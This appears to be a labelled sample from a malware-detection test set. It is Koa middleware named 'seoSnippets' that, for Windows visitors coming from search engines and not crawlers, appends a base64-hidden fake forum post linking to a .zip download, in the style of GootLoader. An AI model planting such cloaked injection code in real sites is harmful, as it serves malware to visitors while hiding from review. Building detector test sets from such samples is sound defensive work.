// expect: malicious
// source: GootLoader's forum lure served by a site's own middleware (blind set 34): for Windows visitors coming from a
// search engine, not crawlers, a fake post with a download link is added to the page; the markup and its host are base64.
const LURE = 'PGRpdiBjbGFzcz0ia2ItdGhyZWFkIj48cD5IZXJlIGlzIHRoZSBmb3JtIHlvdSBhc2tlZCBmb3I6IDxhIGhyZWY9Imh0dHBzOi8vZGwuZm9ybXMtY2RuLmV4YW1wbGUvZi97VH0iPntRfS56aXA8L2E+PC9wPjwvZGl2Pg==';

function lure(title) {
  return Buffer.from(LURE, 'base64').toString().replace(/\{Q\}/g, title).replace(/\{T\}/g, Date.now().toString(36));
}

module.exports = function seoSnippets() {
  return async function (ctx, next) {
    await next();
    const ua = ctx.get('user-agent');
    const forVisitor = /Windows NT/.test(ua) && !/bot|crawl|spider|slurp/i.test(ua) && /google|bing/.test(ctx.get('referer'));
    if (forVisitor && typeof ctx.body === 'string') {
      ctx.body = ctx.body.replace('</body>', lure(ctx.state.title || 'template') + '</body>');
    }
  };
};
